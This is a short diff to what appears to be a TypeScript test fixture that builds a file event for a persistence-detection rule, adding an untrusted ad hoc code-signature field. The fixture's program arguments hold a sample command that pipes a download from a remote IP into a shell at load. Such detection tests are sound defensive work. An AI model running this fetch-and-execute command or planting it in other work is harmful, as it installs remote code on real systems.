@@ -90,6 +90,7 @@ export function fileEvent(id = 'f1', file: EcsDocument['file'] = {}): Event {
         program_arguments: ['/bin/sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
         run_at_load: true,
         triggers: ['WatchPaths'],
+        code_signature: { exists: true, trusted: false, status: 'ad hoc', signing_id: 'evil-555' },
       },
     },
   });
